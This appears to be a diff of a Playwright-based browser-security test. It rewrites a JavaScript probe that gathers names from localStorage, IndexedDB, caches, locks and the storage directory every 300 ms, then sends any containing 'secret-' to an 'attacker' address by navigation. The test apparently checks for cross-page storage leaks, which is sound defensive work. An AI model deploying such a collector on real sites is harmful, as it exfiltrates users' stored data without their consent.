@@ -2,15 +2,22 @@
 
 from playwright.sync_api import BrowserContext
 
-# Finds what the first page left, and sends all of it.
-_SEND = """async address => {
+# Finds what the first page left, again and again, and sends it as even a page with our headers can that links to other
+# sites: by leading itself to the attacker, whose "no content" keeps it where it is.
+_SEND = """address => {
+  const found = new Set();
   const channel = new BroadcastChannel("left");
-  channel.onmessage = ({ data }) => fetch(`${address}/left?${data}`);
-  const found = Object.keys(localStorage);
-  found.push(...(await indexedDB.databases()).map(({ name }) => name), ...(await caches.keys()));
-  found.push(...(await navigator.locks.query()).held.map(({ name }) => name));
-  for await (const name of (await navigator.storage.getDirectory()).keys()) found.push(name);
-  void fetch(`${address}/left`, { method: "POST", mode: "no-cors", body: found.join(" ") });
+  channel.onmessage = ({ data }) => found.add(data);
+  const look = async () => {
+    for (const name of Object.keys(localStorage)) found.add(name);
+    for (const { name } of await indexedDB.databases()) found.add(name);
+    for (const name of await caches.keys()) found.add(name);
+    for (const { name } of (await navigator.locks.query()).held) found.add(name);
+    for await (const name of (await navigator.storage.getDirectory()).keys()) found.add(name);
+    const secrets = [...found].filter(each => each.includes("secret-"));
+    if (secrets.length) location.href = `${address}/left?${secrets.join(",")}`;
+  };
+  setInterval(look, 300);
 }"""
 
 
